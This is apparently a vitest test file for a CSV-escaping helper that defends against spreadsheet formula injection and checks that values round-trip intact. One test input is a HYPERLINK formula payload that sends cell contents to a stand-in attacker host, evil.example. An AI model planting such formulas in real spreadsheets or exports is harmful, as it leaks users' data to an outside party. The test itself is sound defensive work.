import { describe, expect, it } from 'vitest';
import { csvCell, csvCellValue } from './csv-cells.js';

/** Reads one written cell back as a CSV reader would: unquoted, then restored. */
function readBack(written: string): string {
  const unquoted = written.startsWith('"') ? written.slice(1, -1).replaceAll('""', '"') : written;
  return csvCellValue(unquoted);
}

describe('CSV cells', () => {
  it('puts a quote before every cell a spreadsheet would run as a formula', () => {
    expect(csvCell('=HYPERLINK("http://evil.example/?"&A1,"x")')).toBe('"\'=HYPERLINK(""http://evil.example/?""&A1,""x"")"');
    expect(csvCell('+1+1')).toBe("'+1+1");
    expect(csvCell('-2+3')).toBe("'-2+3");
    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvCell('\t=1')).toBe("'\t=1");
    expect(csvCell('\r=1')).toBe('"\'\r=1"');
  });

  it('leaves other cells alone and keeps RFC 4180 quoting', () => {
    expect(csvCell('plain note')).toBe('plain note');
    expect(csvCell('a, "b"\nc')).toBe('"a, ""b""\nc"');
    expect(csvCell('x=1')).toBe('x=1');
    expect(csvCell('')).toBe('');
    expect(csvCell('["a"]')).toBe('"[""a""]"');
  });

  it('restores every value, including notes that really start with a quote', () => {
    for (const value of ['=1+1', '+x', '-', '@me', '\tx', '\r\n=1', "'", "''", "'tis", "'=not a formula", "''=x", 'plain', '', 'a,"b"']) {
      expect(readBack(csvCell(value)), JSON.stringify(value)).toBe(value);
    }
  });

  it('keeps a leading quote it did not add', () => {
    expect(csvCellValue("'tis")).toBe("'tis");
    expect(csvCellValue("'=1")).toBe('=1');
    expect(csvCellValue("''tis")).toBe("'tis");
  });
});
